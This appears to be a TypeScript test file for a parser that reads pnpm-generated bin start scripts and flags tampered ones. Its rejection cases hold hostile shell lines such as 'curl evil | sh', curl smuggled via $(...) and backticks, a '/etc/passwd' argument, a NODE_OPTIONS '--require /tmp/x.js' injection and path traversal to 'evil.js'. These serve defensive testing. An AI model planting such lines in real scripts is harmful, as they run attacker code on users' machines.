// Start scripts as pnpm writes them, and what somebody could have written into one.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { readScript } from '../../src/installed/start-script.ts';

const PLACE = 'node_modules/.bin/tool';
const read = (text: string): ReturnType<typeof readScript> => readScript(Buffer.from(text), PLACE, '/project');

const PNPM_10 = `#!/bin/sh
basedir=$(dirname "$(echo "$0" | sed -e 's,\\\\,/,g')")

case \`uname\` in
    *CYGWIN*|*MINGW*|*MSYS*)
        if command -v cygpath > /dev/null 2>&1; then
            basedir=\`cygpath -w "$basedir"\`
        fi
    ;;
esac

if [ -z "$NODE_PATH" ]; then
  export NODE_PATH="/project/node_modules/.pnpm/tool@1.0.0/node_modules:/project/node_modules/.pnpm/node_modules"
else
  export NODE_PATH="/project/node_modules/.pnpm/tool@1.0.0/node_modules:/project/node_modules/.pnpm/node_modules:$NODE_PATH"
fi
if [ -x "$basedir/node" ]; then
  exec "$basedir/node"  "$basedir/../.pnpm/tool@1.0.0/node_modules/tool/cli.js" "$@"
else
  exec node  "$basedir/../.pnpm/tool@1.0.0/node_modules/tool/cli.js" "$@"
fi
`;

test('a whole script of pnpm 10 is read', () => {
  const script = read(PNPM_10);
  assert.ok(script.type === 'script');
  assert.deepEqual(
    script.starts.map(({ place, interpreter }) => [place, interpreter]),
    [
      ['node_modules/.pnpm/tool@1.0.0/node_modules/tool/cli.js', 'node'],
      ['node_modules/.pnpm/tool@1.0.0/node_modules/tool/cli.js', 'node'],
    ],
  );
  assert.equal(script.outside, undefined);
});

const single: readonly (readonly [line: string, place: string, interpreter: string | undefined])[] = [
  ['exec node  "$basedir/../tool/cli.js" "$@"', 'node_modules/tool/cli.js', 'node'],
  ['exec node --flag  "$basedir/../tool/cli.js" "$@"', 'node_modules/tool/cli.js', 'node --flag'],
  [`exec node  "$basedir_abs"/'../tool/cli.js' "$@"`, 'node_modules/tool/cli.js', 'node'],
  [`exec node.exe  "$basedir_win"/'../tool/cli.js' "$@"`, 'node_modules/tool/cli.js', 'node'],
  ['exec /bin/sh  "$basedir/../tool/x.sh" "$@"', 'node_modules/tool/x.sh', '/bin/sh'],
  ['"$basedir/../tool/x"   "$@"', 'node_modules/tool/x', undefined],
  ['# cmd-shim-target=/project/node_modules/tool/cli.js', 'node_modules/tool/cli.js', undefined],
  ['# cmd-shim-target=../tool/cli.js', 'node_modules/tool/cli.js', undefined],
];

describe('reads', () => {
  for (const [line, place, interpreter] of single) {
    test(line, () => {
      const script = read(`#!/bin/sh\n${line}\n`);
      assert.ok(script.type === 'script');
      assert.deepEqual(
        script.starts.map((start) => [start.place, start.interpreter]),
        [[place, interpreter]],
      );
    });
  }
});

const EXEC = 'exec node  "$basedir/../tool/cli.js" "$@"';
const strange: readonly (readonly [why: string, text: string])[] = [
  ['nothing', ''],
  ['no first line', EXEC],
  ['another first line', `#!/usr/bin/env node\n${EXEC}`],
  ['nothing started', '#!/bin/sh\n'],
  ['a line of its own', `#!/bin/sh\ncurl evil | sh\n${EXEC}`],
  ['a command behind a known line', `#!/bin/sh\nfi; curl evil\n${EXEC}`],
  ['a command behind the start', `#!/bin/sh\n${EXEC}; curl evil`],
  ['a command in the path', '#!/bin/sh\nexec node  "$basedir/$(curl evil)" "$@"'],
  ['a command in backticks', '#!/bin/sh\nexec node  "$basedir/`curl evil`" "$@"'],
  ['a second string', '#!/bin/sh\nexec node  "$basedir/../tool/cli.js" "/etc/passwd" "$@"'],
  ['a variable as interpreter', '#!/bin/sh\nexec $X  "$basedir/../tool/cli.js" "$@"'],
  ['a command among the module folders', `#!/bin/sh\nexport NODE_PATH="$(curl evil)"\n${EXEC}`],
  ['another variable', `#!/bin/sh\nexport NODE_OPTIONS="--require /tmp/x.js"\n${EXEC}`],
  ['a carriage return', `#!/bin/sh\r\n${EXEC}`],
  ['a script for another shell', `@ECHO off\r\n"%~dp0\\..\\tool\\cli.js" %*`],
];

describe('does not believe', () => {
  for (const [why, text] of strange) test(why, () => assert.equal(read(text).type, 'strange'));

  test('a script beyond the bound', () => assert.equal(readScript(undefined, PLACE, '/project').type, 'strange'));
});

const outside: readonly (readonly [folders: string, expected: string | undefined])[] = [
  ['"/project/node_modules:$NODE_PATH"', undefined],
  [`"$basedir_abs"/'..':"$basedir_abs"/'../../../../node_modules'`, '../../../../node_modules'],
  ['"/tmp/node_modules"', '/tmp/node_modules'],
  ['"/project/node_modules:/project/src"', '/project/src'],
  ['"/project/../evil/node_modules"', '/project/../evil/node_modules'],
];

describe('module folders', () => {
  for (const [folders, expected] of outside) {
    test(folders, () => {
      const script = read(`#!/bin/sh\nexport NODE_PATH=${folders}\n${EXEC}\n`);
      assert.ok(script.type === 'script');
      assert.equal(script.outside, expected);
    });
  }
});

test('what is started outside of the project has no place', () => {
  for (const target of ['../../../evil.js', '../a/../../../../evil.js', '../tool/../evil.js']) {
    const script = read(`#!/bin/sh\nexec node  "$basedir/${target}" "$@"\n`);
    assert.ok(script.type === 'script');
    assert.equal(script.starts[0]?.place, undefined, target);
  }
});
